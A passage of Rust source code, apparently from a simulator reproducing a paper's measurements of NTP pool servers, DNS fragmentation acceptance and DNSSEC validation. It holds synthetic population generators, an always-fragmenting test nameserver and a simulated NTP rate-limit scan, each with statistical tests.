        if (x as usize) < n {
            return x as usize;
        }
    }
}

/// One NTP pool server's behaviour (§VII-A population).
#[derive(Debug, Clone, Copy, PartialEq, Serialize)]
pub struct PoolServerSpec {
    /// Whether the server rate limits at a 1 Hz query rate.
    pub rate_limits: bool,
    /// Whether it sends a KoD before going silent.
    pub sends_kod: bool,
    /// Whether the mode-6 configuration interface is exposed (§IV-B2c).
    pub open_config: bool,
}

/// Pool server `idx` of the §VII-A population — pure `(seed, idx)`.
pub fn pool_server_at(seed: u64, idx: usize) -> PoolServerSpec {
    let mut rng = item_rng(seed, idx);
    let rate_limits = rng.random_bool(0.38);
    // 33 of the 38 points send KoD; the rest drop silently.
    let sends_kod = rate_limits && rng.random_bool(0.33 / 0.38);
    PoolServerSpec { rate_limits, sends_kod, open_config: rng.random_bool(0.053) }
}

/// The §VII-A scan population: 2 432 servers, 38 % rate limiting, 33 %
/// KoD-sending, 5.3 % with an open config interface.
pub fn pool_servers(n: usize, seed: u64) -> Vec<PoolServerSpec> {
    (0..n).map(|idx| pool_server_at(seed, idx)).collect()
}

/// The measured number of pool servers in §VII-A.
pub const POOL_SCAN_SIZE: usize = 2432;

/// A domain's nameserver PMTUD behaviour (Fig. 5 population).
#[derive(Debug, Clone, Copy, PartialEq, Serialize)]
pub struct NameserverSpec {
    /// Whether ICMP frag-needed is honoured at all.
    pub honours_pmtud: bool,
    /// The smallest fragment size the NS will emit (its PMTU floor).
    pub min_fragment_mtu: u16,
    /// Whether the domain is DNSSEC-signed.
    pub signed: bool,
}

/// Mixture for the Fig. 5 CDF over *fragmenting, unsigned* domains:
/// `(floor, cumulative fraction)` — 7.05 % reach 292 B, 83.2 % reach 548 B.
pub const FIG5_CDF_POINTS: [(u16, f64); 5] =
    [(68, 0.020), (292, 0.0705), (548, 0.832), (1276, 0.952), (1492, 1.0)];

/// Domain nameserver `idx` of the §VII-B population — pure `(seed, idx)`.
pub fn domain_nameserver_at(seed: u64, idx: usize) -> NameserverSpec {
    let mut rng = item_rng(seed, idx);
    let roll: f64 = rng.random();
    if roll < 0.0766 {
        NameserverSpec {
            honours_pmtud: true,
            min_fragment_mtu: sample_floor(&mut rng),
            signed: false,
        }
    } else if roll < 0.0766 + 0.01 {
        // Signed domains (~1 %); half of them also fragment.
        NameserverSpec {
            honours_pmtud: rng.random_bool(0.5),
            min_fragment_mtu: sample_floor(&mut rng),
            signed: true,
        }
    } else {
        NameserverSpec { honours_pmtud: false, min_fragment_mtu: 1500, signed: false }
    }
}

/// Draws the 1M-domain nameserver population (§VII-B): `frag_unsigned`
/// fraction (paper: 7.66 %) fragment and are unsigned, with floors from
/// [`FIG5_CDF_POINTS`]; ~1 % are signed; the rest ignore PMTUD.
pub fn domain_nameservers(n: usize, seed: u64) -> Vec<NameserverSpec> {
    (0..n).map(|idx| domain_nameserver_at(seed, idx)).collect()
}

fn sample_floor(rng: &mut SmallRng) -> u16 {
    let roll: f64 = rng.random();
    let mut prev = 0.0;
    for &(floor, cum) in &FIG5_CDF_POINTS {
        if roll < cum {
            return floor;
        }
        prev = cum;
    }
    let _ = prev;
    1492
}

/// The pool.ntp.org nameserver population of §VII-B: 30 nameservers, 16 of
/// which fragment below 548 bytes, none signed.
pub fn pool_nameservers(seed: u64) -> Vec<NameserverSpec> {
    let mut rng = SmallRng::seed_from_u64(seed);
    let mut out: Vec<NameserverSpec> = (0..30)
        .map(|i| NameserverSpec {
            honours_pmtud: i < 16,
            min_fragment_mtu: if i < 16 {
                if rng.random_bool(0.1) {
                    292
                } else {
                    548
                }
            } else {
                1500
            },
            signed: false,
        })
        .collect();
    // Shuffle so position carries no information.
    for i in (1..out.len()).rev() {
        let j = rng.random_range(0..=i);
        out.swap(i, j);
    }
    out
}

/// An open resolver's state for the Table IV / Fig. 6 / Fig. 7 scans.
#[derive(Debug, Clone, Copy, PartialEq, Serialize)]
pub struct OpenResolverSpec {
    /// Whether the resolver honours RD=0 (cache-only) semantics; the scan's
    /// verification step excludes those that do not.
    pub respects_rd: bool,
    /// Which pool records are cached, with their current age in seconds:
    /// `[NS, A, 0.A, 1.A, 2.A, 3.A]`.
    pub cached: [Option<u32>; 6],
    /// Whether the resolver accepts fragmented responses (~31 %).
    pub accepts_fragments: bool,
    /// One-way scanner→resolver latency in milliseconds (5..300).
    pub rtt_ms: u64,
}

/// Table IV cache probabilities: NS, apex A, 0..3 A.
pub const TABLE4_CACHE_P: [f64; 6] = [0.5828, 0.6941, 0.6392, 0.6128, 0.6155, 0.5858];

/// Record TTLs matching the probed records (NS record: 3600 s, A: 150 s).
pub const TABLE4_TTLS: [u32; 6] = [3600, 150, 150, 150, 150, 150];

/// Open resolver `idx` of the Table IV / Fig. 6 / Fig. 7 population —
/// pure `(seed, idx)`, O(1) work: the paper-scale survey (1 583 045
/// resolvers) generates each spec on demand instead of materializing
/// ~60 MB of population.
pub fn open_resolver_at(seed: u64, idx: usize) -> OpenResolverSpec {
    let mut rng = item_rng(seed, idx);
    let mut cached = [None; 6];
    for (slot, (&p, &ttl)) in cached.iter_mut().zip(TABLE4_CACHE_P.iter().zip(&TABLE4_TTLS)) {
        if rng.random_bool(p) {
            *slot = Some(rng.random_range(0..ttl));
        }
    }
    OpenResolverSpec {
        respects_rd: rng.random_bool(0.41),
        cached,
        accepts_fragments: rng.random_bool(0.31),
        rtt_ms: rng.random_range(5..300),
    }
}

/// Draws the open-resolver population.
pub fn open_resolvers(n: usize, seed: u64) -> Vec<OpenResolverSpec> {
    (0..n).map(|idx| open_resolver_at(seed, idx)).collect()
}

/// Regions of the ad study (Table V).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
pub enum Region {
    /// Asia (dataset 1).
    Asia,
    /// Africa (dataset 1).
    Africa,
    /// Europe (dataset 1).
    Europe,
    /// Northern America (dataset 2).
    NorthernAmerica,
    /// Latin America (dataset 1).
    LatinAmerica,
}

impl Region {
    /// All regions in Table V order.
    pub fn all() -> [Region; 5] {
        [
            Region::Asia,
            Region::Africa,
            Region::Europe,
            Region::NorthernAmerica,
            Region::LatinAmerica,
        ]
    }

    /// Display name as in Table V.
    pub fn name(self) -> &'static str {
        match self {
            Region::Asia => "Asia",
            Region::Africa => "Africa",
            Region::Europe => "Europe",
            Region::NorthernAmerica => "Northern America",
            Region::LatinAmerica => "Latin America",
        }
    }

    /// Valid-client counts from Table V (datasets 1 and 2).
    pub fn client_count(self) -> usize {
        match self {
            Region::Asia => 3169,
            Region::Africa => 303,
            Region::Europe => 1390,
            Region::NorthernAmerica => 2314,
            Region::LatinAmerica => 838,
        }
    }

    /// Fraction of clients whose resolvers accept tiny (68 B) fragments.
    pub fn p_accept_tiny(self) -> f64 {
        match self {
            Region::Asia => 0.5822,
            Region::Africa => 0.7327,
            Region::Europe => 0.7266,
            Region::NorthernAmerica => 0.5843,
            Region::LatinAmerica => 0.6826,
        }
    }

    /// Fraction accepting at least one fragment size.
    pub fn p_accept_any(self) -> f64 {
        match self {
            Region::Asia => 0.9034,
            Region::Africa => 0.9571,
            Region::Europe => 0.9187,
            Region::NorthernAmerica => 0.7593,
            Region::LatinAmerica => 0.9057,
        }
    }

    /// DNSSEC validation rate (paper: between 19.14 % and 28.94 %).
    pub fn p_validates(self) -> f64 {
        match self {
            Region::Asia => 0.1914,
            Region::Africa => 0.2894,
            Region::Europe => 0.2718,
            Region::NorthernAmerica => 0.2341,
            Region::LatinAmerica => 0.2052,
        }
    }
}

/// An ad-study client: its region, device class and resolver behaviour.
#[derive(Debug, Clone, Copy, PartialEq, Serialize)]
pub struct AdClientSpec {
    /// Geographic region.
    pub region: Region,
    /// True for mobile/tablet (vs PC).
    pub mobile: bool,
    /// Resolver is Google-like (accepts only big fragments).
    pub google_resolver: bool,
    /// The smallest *leading* fragment size the resolver accepts;
    /// `u16::MAX` encodes "rejects all fragments".
    pub min_fragment_accepted: u16,
    /// Whether the resolver validates DNSSEC.
    pub validates: bool,
}

/// Draws the Table V client population (all regions, paper counts).
pub fn ad_clients(seed: u64) -> Vec<AdClientSpec> {
    ad_clients_scaled(seed, 1.0)
}

/// The per-region client count at a population scale (minimum 30).
fn region_count(region: Region, scale: f64) -> usize {
    ((region.client_count() as f64 * scale) as usize).max(30)
}

/// Total Table V clients at a population scale — the trial count of the
/// `table5_adstudy` campaign.
pub fn ad_client_count(scale: f64) -> usize {
    Region::all().iter().map(|&r| region_count(r, scale)).sum()
}

/// Ad client `idx` (global index across regions, Table V order) — pure
/// `(seed, scale, idx)`, O(1) work.
///
/// Table V reports exact per-region counts, so the resolver classes are
/// assigned by quota (stratified sampling) rather than drawn
/// independently: the marginals then recover the paper's numbers by
/// construction at any population scale. Class membership at an index is
/// a seeded Feistel permutation of the region's index space over the
/// quota blocks — exact quotas with position-uncorrelated placement, no
/// materialized shuffle. Only the per-client mobile/validates flags are
/// drawn from the item's own RNG stream.
pub fn ad_client_at(seed: u64, scale: f64, idx: usize) -> AdClientSpec {
    let mut local = idx;
    let (region, count) = Region::all()
        .into_iter()
        .find_map(|region| {
            let count = region_count(region, scale);
            if local < count {
                Some((region, count))
            } else {
                local -= count;
                None
            }
        })
        .unwrap_or_else(|| panic!("ad client index {idx} beyond population"));

    // ~13.5 % of dataset-1 clients used Google resolvers (791/5847).
    let p_google = if region == Region::NorthernAmerica { 0.10 } else { 0.135 };
    let n_google = (count as f64 * p_google).round() as usize;
    let n_tiny = (count as f64 * region.p_accept_tiny()).round() as usize;
    // accept-any covers tiny-acceptors, partial acceptors and Google
    // (which accepts only big fragments but accepts *some*).
    let n_any = (count as f64 * region.p_accept_any()).round() as usize;
    let n_partial = n_any.saturating_sub(n_tiny + n_google);

    // (google_resolver, min_fragment_accepted) by permuted quota block.
    let slot = permute_index(count, runner::mix64(seed ^ (region as u64).wrapping_add(1)), local);
    let (google_resolver, min_fragment_accepted) = if slot < n_tiny {
        (false, 0)
    } else if slot < n_tiny + n_partial {
        (false, [200u16, 500, 1000][(slot - n_tiny) % 3])
    } else if slot < n_tiny + n_partial + n_google {
        (true, 1000)
    } else {
        (false, u16::MAX)
    };

    let mut rng = item_rng(seed, idx);
    AdClientSpec {
        region,
        mobile: rng.random_bool(0.53),
        google_resolver,
        min_fragment_accepted,
        validates: rng.random_bool(region.p_validates()),
    }
}

/// Draws a scaled-down client population (same marginals, `scale` × the
/// paper's per-region counts; minimum 30 clients per region).
pub fn ad_clients_scaled(seed: u64, scale: f64) -> Vec<AdClientSpec> {
    (0..ad_client_count(scale)).map(|idx| ad_client_at(seed, scale, idx)).collect()
}

/// A web-client resolver for the §VIII-B3 shared-resolver study.
#[derive(Debug, Clone, Copy, PartialEq, Serialize)]
pub struct SharedResolverSpec {
    /// An SMTP server in the same /24 uses this resolver.
    pub smtp_shares: bool,
    /// The resolver itself is open.
    pub open: bool,
}

/// Web-client resolver `idx` of the §VIII-B3 population — pure
/// `(seed, idx)`.
pub fn shared_resolver_at(seed: u64, idx: usize) -> SharedResolverSpec {
    let mut rng = item_rng(seed, idx);
    let roll: f64 = rng.random();
    if roll < 0.002 {
        SharedResolverSpec { smtp_shares: true, open: true }
    } else if roll < 0.002 + 0.113 {
        SharedResolverSpec { smtp_shares: true, open: false }
    } else if roll < 0.002 + 0.113 + 0.023 {
        SharedResolverSpec { smtp_shares: false, open: true }
    } else {
        SharedResolverSpec { smtp_shares: false, open: false }
    }
}

/// §VIII-B3 population: of 18 668 web-client resolvers, 11.3 % shared with
/// SMTP, 2.3 % open, 0.2 % both.
pub fn shared_resolvers(n: usize, seed: u64) -> Vec<SharedResolverSpec> {
    (0..n).map(|idx| shared_resolver_at(seed, idx)).collect()
}

/// The §VIII-B3 study size.
pub const SHARED_STUDY_SIZE: usize = 18_668;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pool_population_marginals() {
        let pop = pool_servers(POOL_SCAN_SIZE, 1);
        let limiting = pop.iter().filter(|s| s.rate_limits).count() as f64 / pop.len() as f64;
        let kod = pop.iter().filter(|s| s.sends_kod).count() as f64 / pop.len() as f64;
        let config = pop.iter().filter(|s| s.open_config).count() as f64 / pop.len() as f64;
        assert!((limiting - 0.38).abs() < 0.03, "rate limiting {limiting}");
        assert!((kod - 0.33).abs() < 0.03, "kod {kod}");
        assert!((config - 0.053).abs() < 0.02, "open config {config}");
        assert!(pop.iter().all(|s| !s.sends_kod || s.rate_limits));
    }

    #[test]
    fn nameserver_population_marginals() {
        let pop = domain_nameservers(50_000, 2);
        let frag_unsigned =
            pop.iter().filter(|s| s.honours_pmtud && !s.signed).count() as f64 / pop.len() as f64;
        assert!((frag_unsigned - 0.0766).abs() < 0.01, "frag+unsigned {frag_unsigned}");
        let fragging: Vec<_> = pop.iter().filter(|s| s.honours_pmtud && !s.signed).collect();
        let at_548 = fragging.iter().filter(|s| s.min_fragment_mtu <= 548).count() as f64
            / fragging.len() as f64;
        assert!((at_548 - 0.832).abs() < 0.03, "CDF(548) {at_548}");
        let at_292 = fragging.iter().filter(|s| s.min_fragment_mtu <= 292).count() as f64
            / fragging.len() as f64;
        assert!((at_292 - 0.0705).abs() < 0.02, "CDF(292) {at_292}");
    }

    #[test]
    fn pool_ns_population_is_16_of_30() {
        let pop = pool_nameservers(3);
        assert_eq!(pop.len(), 30);
        assert_eq!(pop.iter().filter(|s| s.honours_pmtud).count(), 16);
        assert!(pop.iter().all(|s| !s.signed), "0 of 30 support DNSSEC");
    }

    #[test]
    fn open_resolver_marginals() {
        let pop = open_resolvers(50_000, 4);
        let a_cached =
            pop.iter().filter(|s| s.cached[1].is_some()).count() as f64 / pop.len() as f64;
        assert!((a_cached - 0.6941).abs() < 0.01, "A cached {a_cached}");
        // Ages are within TTL.
        assert!(pop.iter().flat_map(|s| s.cached[1]).all(|age| age < 150));
    }

    #[test]
    fn ad_population_marginals_recover_table5() {
        let pop = ad_clients_scaled(5, 1.0);
        for region in Region::all() {
            let clients: Vec<_> = pop.iter().filter(|c| c.region == region).collect();
            assert!(!clients.is_empty());
            let tiny = clients.iter().filter(|c| c.min_fragment_accepted <= 68).count() as f64
                / clients.len() as f64;
            assert!(
                (tiny - region.p_accept_tiny()).abs() < 0.04,
                "{}: tiny {tiny} want {}",
                region.name(),
                region.p_accept_tiny()
            );
            let any = clients.iter().filter(|c| c.min_fragment_accepted < u16::MAX).count() as f64
                / clients.len() as f64;
            assert!(
                (any - region.p_accept_any()).abs() < 0.04,
                "{}: any {any} want {}",
                region.name(),
                region.p_accept_any()
            );
        }
    }

    #[test]
    fn shared_population_marginals() {
        let pop = shared_resolvers(SHARED_STUDY_SIZE, 6);
        let smtp =
            pop.iter().filter(|s| s.smtp_shares && !s.open).count() as f64 / pop.len() as f64;
        let open =
            pop.iter().filter(|s| s.open && !s.smtp_shares).count() as f64 / pop.len() as f64;
        let both = pop.iter().filter(|s| s.open && s.smtp_shares).count() as f64 / pop.len() as f64;
        assert!((smtp - 0.113).abs() < 0.01);
        assert!((open - 0.023).abs() < 0.005);
        assert!((both - 0.002).abs() < 0.002);
    }

    #[test]
    fn populations_are_deterministic_per_seed() {
        assert_eq!(pool_servers(100, 9), pool_servers(100, 9));
        assert_ne!(pool_servers(100, 9), pool_servers(100, 10));
    }

    #[test]
    fn per_index_accessors_match_materialized_populations() {
        // The whole lazy-generation contract: item `idx` of every
        // `Vec`-returning generator is bit-identical to the `*_at`
        // accessor, at any index, in any order.
        let resolvers = open_resolvers(200, 11);
        let servers = pool_servers(200, 12);
        let nameservers = domain_nameservers(200, 13);
        let shared = shared_resolvers(200, 14);
        let clients = ad_clients_scaled(15, 0.03);
        assert_eq!(clients.len(), ad_client_count(0.03));
        for idx in [0usize, 1, 7, 42, 111, 199] {
            assert_eq!(resolvers[idx], open_resolver_at(11, idx));
            assert_eq!(servers[idx], pool_server_at(12, idx));
            assert_eq!(nameservers[idx], domain_nameserver_at(13, idx));
            assert_eq!(shared[idx], shared_resolver_at(14, idx));
        }
        for idx in [0usize, 29, 30, 100, clients.len() - 1] {
            assert_eq!(clients[idx], ad_client_at(15, 0.03, idx));
        }
    }

    #[test]
    fn permute_index_is_a_bijection() {
        for n in [1usize, 2, 3, 30, 97, 838] {
            for seed in [0u64, 7, 0xDEAD_BEEF] {
                let mut seen = vec![false; n];
                for idx in 0..n {
                    let out = permute_index(n, seed, idx);
                    assert!(out < n, "out of range: {out} for n={n}");
                    assert!(!seen[out], "collision at {out} for n={n} seed={seed}");
                    seen[out] = true;
                }
            }
        }
    }

    #[test]
    fn ad_quotas_are_exact_per_region() {
        // Stratified quotas must hold *exactly* (not just within
        // tolerance): the Feistel permutation only rearranges the blocks.
        let pop = ad_clients_scaled(5, 1.0);
        for region in Region::all() {
            let clients: Vec<_> = pop.iter().filter(|c| c.region == region).collect();
            let count = clients.len();
            let n_tiny = (count as f64 * region.p_accept_tiny()).round() as usize;
            let tiny = clients.iter().filter(|c| c.min_fragment_accepted == 0).count();
            assert_eq!(tiny, n_tiny, "{}: tiny quota", region.name());
            let p_google = if region == Region::NorthernAmerica { 0.10 } else { 0.135 };
            let n_google = (count as f64 * p_google).round() as usize;
            let google = clients.iter().filter(|c| c.google_resolver).count();
            assert_eq!(google, n_google, "{}: google quota", region.name());
        }
    }
}
