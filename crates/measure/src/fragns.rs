//! A purpose-built test nameserver that **always fragments** its responses
//! to a configurable size, regardless of path-MTU discovery — the
//! "customised nameserver" of the paper's ad study (§VIII-B1): *"our
//! nameserver fragmented the responses irrespective of any
//! path-MTU-discovery results"*.
//!
//! Query names select the behaviour by their second label, mirroring the
//! study's test domains:
//!
//! * `T.baseline.<zone>` — ordinary unfragmented answer;
//! * `T.ftiny.<zone>` — fragments of 68 bytes;
//! * `T.fsmall.<zone>` — 296 bytes;
//! * `T.fmedium.<zone>` — 580 bytes;
//! * `T.fbig.<zone>` — 1280 bytes;
//! * `sigfail.<zone>` — DNSSEC-lite signature made with the wrong key;
//! * `sigright.<zone>` — correctly signed.

use std::net::Ipv4Addr;

use dns::auth::DNS_PORT;
use dns::dnssec::{make_rrsig, ZoneKey};
use dns::message::{Message, Rcode};
use dns::name::Name;
use dns::record::{RData, Record, RecordType};
use netsim::frag::fragment;
use netsim::ipv4::Ipv4Packet;
use netsim::prelude::*;
use netsim::udp::UdpDatagram;

/// The fragment sizes used by the study's sub-domains.
pub const SIZES: [(&str, u16); 4] =
    [("ftiny", 68), ("fsmall", 296), ("fmedium", 580), ("fbig", 1280)];

/// The always-fragmenting test nameserver.
#[derive(Debug)]
pub struct FragmentingNs {
    zone: Name,
    /// The genuine zone key (sigright uses it; sigfail uses a different
    /// one).
    pub key: ZoneKey,
    ipid: u16,
    /// Queries answered.
    pub queries: u64,
}

impl FragmentingNs {
    /// Creates the server authoritative for `zone`.
    pub fn new(zone: Name, key: ZoneKey) -> Self {
        FragmentingNs { zone, key, ipid: 1, queries: 0 }
    }

    /// Classifies a query name: returns the behaviour label (second-level
    /// label under the zone, or the first label for `sigfail`/`sigright`).
    fn kind_of(&self, qname: &Name) -> Option<String> {
        if !qname.is_subdomain_of(&self.zone) {
            return None;
        }
        let extra = qname.label_count() - self.zone.label_count();
        match extra {
            1 => Some(qname.labels()[0].clone()), // sigfail / sigright
            2 => Some(qname.labels()[1].clone()), // T.<kind>
            _ => None,
        }
    }

    fn build_answer(&self, query: &Message, kind: &str) -> Option<Message> {
        let q = query.question()?;
        let mut resp = Message::response_to(query);
        resp.header.aa = true;
        let addr = Ipv4Addr::new(198, 51, 7, 7);
        // The zone is signed: every RRset carries an RRSIG made with the
        // genuine key — except `sigfail`, whose signature uses a wrong key
        // (the study's broken-signature control).
        let key = if kind == "sigfail" { ZoneKey(self.key.0 ^ 0xBAD) } else { self.key };
        match kind {
            "baseline" | "sigfail" | "sigright" => {
                resp.answers.push(Record::a(q.name.clone(), 60, addr));
                let sig = make_rrsig(key, &self.zone, &q.name, RecordType::A, 60, &resp.answers);
                resp.answers.push(sig);
            }
            _ if SIZES.iter().any(|(k, _)| *k == kind) => {
                let a_set = vec![Record::a(q.name.clone(), 60, addr)];
                // Pad so the response exceeds the largest fragment size:
                // every kind then yields at least two fragments.
                let txt_set = vec![Record::new(q.name.clone(), 60, RData::Txt("p".repeat(1400)))];
                let a_sig = make_rrsig(key, &self.zone, &q.name, RecordType::A, 60, &a_set);
                let txt_sig = make_rrsig(key, &self.zone, &q.name, RecordType::Txt, 60, &txt_set);
                resp.answers.extend(a_set);
                resp.answers.push(a_sig);
                resp.answers.extend(txt_set);
                resp.answers.push(txt_sig);
            }
            _ => {
                resp.header.rcode = Rcode::NxDomain;
            }
        }
        Some(resp)
    }
}

impl Host for FragmentingNs {
    fn on_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) {
        if d.dst_port != DNS_PORT {
            return;
        }
        let Ok(query) = Message::decode(&d.payload) else { return };
        if query.header.qr {
            return;
        }
        let Some(q) = query.question() else { return };
        let Some(kind) = self.kind_of(&q.name) else { return };
        let Some(resp) = self.build_answer(&query, &kind) else { return };
        self.queries += 1;
        let Ok(dns_bytes) = resp.encode() else { return };
        let Ok(udp) = UdpDatagram::new(DNS_PORT, d.src_port, dns_bytes).encode(ctx.addr(), d.src)
        else {
            return;
        };
        self.ipid = self.ipid.wrapping_add(1);
        let pkt = Ipv4Packet::udp(ctx.addr(), d.src, self.ipid, udp);
        let mtu = SIZES.iter().find(|(k, _)| *k == kind).map(|(_, mtu)| *mtu).unwrap_or(1500);
        // `fragment` cannot fail here: the MTUs come from SIZES (all ≥ 68)
        // and the packet is a fresh unfragmented one with DF clear.
        let Ok(frags) = fragment(pkt, mtu) else { return };
        for f in frags {
            ctx.send_raw(f);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dns::prelude::{Resolver, ResolverConfig, TrustAnchors};
    use dns::stub::lookup_once;

    const NS: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 77);
    const RESOLVER: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 53);

    fn build(accepts_fragments: bool, min_fragment: u16, validating: bool) -> Simulator {
        let zone: Name = "adtest.example".parse().unwrap();
        let key = ZoneKey(0x5EED);
        let mut sim = Simulator::with_topology(
            1,
            Topology::uniform(LinkSpec::fixed(SimDuration::from_millis(5))),
        );
        sim.add_host(NS, OsProfile::linux(), Box::new(FragmentingNs::new(zone.clone(), key)))
            .unwrap();
        let mut profile = OsProfile::linux();
        profile.accept_fragments = accepts_fragments;
        profile.min_fragment_size = min_fragment;
        let mut anchors = TrustAnchors::new();
        anchors.add(zone.clone(), key);
        let config = ResolverConfig { validating, anchors, ..ResolverConfig::default() };
        sim.add_host(RESOLVER, profile, Box::new(Resolver::new(config, vec![(zone, vec![NS])])))
            .unwrap();
        sim
    }

    #[test]
    fn baseline_always_resolves() {
        let mut sim = build(true, 0, false);
        let addrs = lookup_once(
            &mut sim,
            "10.0.0.1".parse().unwrap(),
            RESOLVER,
            &"t1.baseline.adtest.example".parse().unwrap(),
        );
        assert_eq!(addrs.len(), 1);
    }

    #[test]
    fn tiny_fragments_accepted_by_permissive_resolver() {
        let mut sim = build(true, 0, false);
        let addrs = lookup_once(
            &mut sim,
            "10.0.0.1".parse().unwrap(),
            RESOLVER,
            &"t2.ftiny.adtest.example".parse().unwrap(),
        );
        assert_eq!(addrs.len(), 1, "68-byte fragments must reassemble");
    }

    #[test]
    fn tiny_fragments_filtered_by_google_style_resolver() {
        let mut sim = build(true, 1000, false);
        let tiny = lookup_once(
            &mut sim,
            "10.0.0.1".parse().unwrap(),
            RESOLVER,
            &"t3.ftiny.adtest.example".parse().unwrap(),
        );
        assert!(tiny.is_empty(), "tiny fragments must be dropped");
        let big = lookup_once(
            &mut sim,
            "10.0.0.2".parse().unwrap(),
            RESOLVER,
            &"t3.fbig.adtest.example".parse().unwrap(),
        );
        assert_eq!(big.len(), 1, "big fragments pass the filter");
    }

    #[test]
    fn sig_tests_distinguish_validators() {
        // Validating resolver: sigright loads, sigfail does not.
        let mut sim = build(true, 0, true);
        let right = lookup_once(
            &mut sim,
            "10.0.0.1".parse().unwrap(),
            RESOLVER,
            &"sigright.adtest.example".parse().unwrap(),
        );
        assert_eq!(right.len(), 1);
        let fail = lookup_once(
            &mut sim,
            "10.0.0.2".parse().unwrap(),
            RESOLVER,
            &"sigfail.adtest.example".parse().unwrap(),
        );
        assert!(fail.is_empty(), "bad signature must SERVFAIL on a validator");
        // Non-validating resolver loads both.
        let mut sim = build(true, 0, false);
        let fail = lookup_once(
            &mut sim,
            "10.0.0.3".parse().unwrap(),
            RESOLVER,
            &"sigfail.adtest.example".parse().unwrap(),
        );
        assert_eq!(fail.len(), 1);
    }
}
