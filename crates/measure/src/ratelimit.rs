//! The §VII-A rate-limiting scan of `pool.ntp.org` servers.
//!
//! Methodology exactly as in the paper: query each server 64 times, once
//! per second, and classify as rate limiting if the first half of the test
//! yielded more than 8 additional responses compared to the second half;
//! KoD packets are recorded separately. A mode-6 probe also checks for an
//! exposed configuration interface.

use std::net::Ipv4Addr;

use netsim::prelude::*;
use ntp::packet::{peek_mode, ControlMessage, NtpMode, NtpPacket, NTP_PORT};
use ntp::server::{NtpServer, RateLimitConfig};
use ntp::timestamp::NtpTimestamp;
use serde::Serialize;

use crate::population::PoolServerSpec;

/// Per-server scan classification.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct ServerVerdict {
    /// Responses in the first 32 queries.
    pub first_half: u32,
    /// Responses in the last 32 queries.
    pub second_half: u32,
    /// A KoD was received.
    pub kod_seen: bool,
    /// The configuration interface answered.
    pub config_open: bool,
}

impl ServerVerdict {
    /// The paper's detection rule: first half − second half > 8.
    pub fn rate_limiting(&self) -> bool {
        self.first_half as i64 - self.second_half as i64 > 8
    }
}

/// Aggregate result of the scan.
#[derive(Debug, Clone, Copy, Default, PartialEq, Serialize)]
pub struct RateLimitScanResult {
    /// Servers scanned.
    pub scanned: usize,
    /// Servers that sent KoD packets.
    pub kod_senders: usize,
    /// Servers that stopped responding (the Δ>8 heuristic).
    pub rate_limiting: usize,
    /// Servers answering mode-6 configuration queries.
    pub config_open: usize,
}

impl RateLimitScanResult {
    /// Fraction of servers detected as rate limiting.
    pub fn rate_limit_fraction(&self) -> f64 {
        self.rate_limiting as f64 / self.scanned.max(1) as f64
    }

    /// Fraction sending KoD.
    pub fn kod_fraction(&self) -> f64 {
        self.kod_senders as f64 / self.scanned.max(1) as f64
    }

    /// Fraction with an open config interface.
    pub fn config_fraction(&self) -> f64 {
        self.config_open as f64 / self.scanned.max(1) as f64
    }
}

/// The scanning host: 64 mode-3 queries at 1 Hz plus one mode-6 probe.
#[derive(Debug)]
struct Scanner {
    target: Ipv4Addr,
    sent: u32,
    verdict: ServerVerdict,
}

const QUERIES: u32 = 64;

impl Host for Scanner {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.send_udp(self.target, NTP_PORT, NTP_PORT, ControlMessage::PeersRequest.encode());
        ctx.set_timer(SimDuration::from_secs(1), 0);
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, _token: TimerToken) {
        if self.sent >= QUERIES {
            return;
        }
        self.sent += 1;
        let t = NtpTimestamp::at_sim_time(ctx.now());
        ctx.send_udp(self.target, NTP_PORT, NTP_PORT, NtpPacket::client_request(t).encode());
        ctx.set_timer(SimDuration::from_secs(1), 0);
    }

    fn on_datagram(&mut self, _ctx: &mut Ctx<'_>, d: &Datagram) {
        match peek_mode(&d.payload) {
            Some(NtpMode::Server) => {
                if let Ok(resp) = NtpPacket::decode(&d.payload) {
                    if resp.is_kod() {
                        self.verdict.kod_seen = true;
                    } else if self.sent <= QUERIES / 2 {
                        self.verdict.first_half += 1;
                    } else {
                        self.verdict.second_half += 1;
                    }
                }
            }
            Some(NtpMode::Control) if ControlMessage::decode(&d.payload).is_ok() => {
                self.verdict.config_open = true;
            }
            _ => {}
        }
    }
}

/// Scans one synthetic server in an isolated mini-simulation.
pub fn scan_server(spec: &PoolServerSpec, seed: u64) -> ServerVerdict {
    let scanner_addr: Ipv4Addr = "203.0.113.5".parse().expect("static");
    let server_addr: Ipv4Addr = "192.0.2.1".parse().expect("static");
    let mut sim = Simulator::with_topology(
        seed,
        Topology::uniform(LinkSpec::fixed(SimDuration::from_millis(20))),
    );
    let rate_limit = if spec.rate_limits {
        let base = if spec.sends_kod { RateLimitConfig::kod() } else { RateLimitConfig::silent() };
        RateLimitConfig { cooldown: SimDuration::from_secs(120), ..base }
    } else {
        RateLimitConfig::disabled()
    };
    let mut server = NtpServer::honest().with_rate_limit(rate_limit);
    if spec.open_config {
        server = server.with_open_config(vec!["10.1.1.1".parse().expect("static")]);
    }
    sim.add_host(server_addr, OsProfile::linux(), Box::new(server)).expect("server addr");
    sim.add_host(
        scanner_addr,
        OsProfile::linux(),
        Box::new(Scanner {
            target: server_addr,
            sent: 0,
            verdict: ServerVerdict {
                first_half: 0,
                second_half: 0,
                kod_seen: false,
                config_open: false,
            },
        }),
    )
    .expect("scanner addr");
    sim.run_for(SimDuration::from_secs(70));
    sim.host::<Scanner>(scanner_addr).expect("scanner exists").verdict
}

/// Runs the full §VII-A scan over a population, fanned across the shared
/// [`runner::TrialRunner`]. Per-item seeds come from [`crate::scan_seed`]
/// on the population index, so results are identical for any worker count.
pub fn run_scan(population: &[PoolServerSpec], seed: u64, workers: usize) -> RateLimitScanResult {
    let verdicts = runner::TrialRunner::new(workers)
        .run(population, |idx, spec| scan_server(spec, crate::scan_seed(seed, idx)));
    let mut result = RateLimitScanResult { scanned: population.len(), ..Default::default() };
    for v in &verdicts {
        if v.kod_seen {
            result.kod_senders += 1;
        }
        if v.rate_limiting() || v.kod_seen {
            // Paper: KoD is "a clear indicator"; silent servers are caught
            // by the halves heuristic.
            result.rate_limiting += 1;
